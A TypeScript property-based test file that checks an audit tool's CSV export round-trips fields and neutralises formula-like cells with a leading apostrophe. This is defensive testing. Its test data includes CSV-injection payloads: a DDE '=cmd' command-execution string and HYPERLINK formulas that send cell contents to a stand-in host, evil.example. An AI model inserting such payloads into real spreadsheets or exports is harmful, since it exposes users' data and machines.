/**
 * The audit's CSV, as a property: whatever text a record holds (quotes, commas, line breaks, controls, a leading
 * formula character), csv-parse reads back one record with every field as it was — except that a field beginning
 * like a formula (=, +, -, @, tab, carriage return, or their full-width forms) comes back with one leading ', so no
 * spreadsheet cell begins like a formula. `FUZZ_RUNS` raises the number of runs (npm run test:full: 10,000).
 */
import test from 'ava';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvRows } from '../src/cli/render-audit';
import { AUDIT_COLUMNS, type AuditRecord } from '../src/projections/trail';

const RUNS = Number(process.env['FUZZ_RUNS'] ?? 300);
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

const text = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.tuple(fc.constantFrom(...TRIGGERS, '"', ',', '\n', '\r\n', "'"), fc.string({ maxLength: 30 })).map(([a, b]) => a + b),
  fc.constantFrom('=HYPERLINK("http://evil.example","click")', "=cmd|' /C calc'!A0", '@SUM(A1:A2)', '+1+1', '-2-2', ''),
);

const record = (actor: string, summary: string, keyVersion: number | null): AuditRecord => ({
  position: '1/1',
  stream: 'keyledger.instance-x',
  revision: '0',
  occurredAt: '2026-11-29T00:00:00.000Z',
  type: 'ConfigRead',
  category: 'initialization',
  actor,
  command: 'init',
  correlationId: summary,
  causationId: 'c',
  installationId: null,
  installations: [],
  deploymentId: 'default',
  keyVersion,
  signedBy: null,
  summary,
});

const neutralised = (v: string): string => (TRIGGERS.some((c) => v.startsWith(c)) || v.startsWith("'") ? `'${v}` : v);

test("CSV round trip: any text comes back as it was, a formula-like one (or one that begins with ') with a leading quote; one record, every column", (t) => {
  t.notThrows(() =>
    fc.assert(
      fc.property(text, text, fc.option(fc.integer({ min: 1, max: 1000 }), { nil: null }), (actor, summary, keyVersion) => {
        const csv = csvRows([record(actor, summary, keyVersion)], true);
        const rows = parse(csv, { columns: true, record_delimiter: ['\r\n'], relax_quotes: false }) as Array<Record<string, string>>;
        if (rows.length !== 1) return false;
        const row = rows[0]!;
        return (
          Object.keys(row).join() === AUDIT_COLUMNS.join() &&
          row['actor'] === neutralised(actor) &&
          row['summary'] === neutralised(summary) &&
          row['correlationId'] === neutralised(summary) &&
          row['keyVersion'] === (keyVersion === null ? '' : String(keyVersion)) &&
          Object.values(row).every((v) => !TRIGGERS.some((c) => v.startsWith(c)))
        );
      }),
      { numRuns: RUNS },
    ),
  );
});

test('a formula-injection value, concretely: the cell a spreadsheet reads is text', (t) => {
  const csv = csvRows([record('=HYPERLINK("http://evil.example/?leak="&A1,"click")', 'ok, "quoted"\nnext line', 2)], false);
  t.is(
    csv,
    `1/1,keyledger.instance-x,0,2026-11-29T00:00:00.000Z,ConfigRead,initialization,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",init,` +
      `"ok, ""quoted""\nnext line",c,,default,2,,"ok, ""quoted""\nnext line"\r\n`,
  );
});
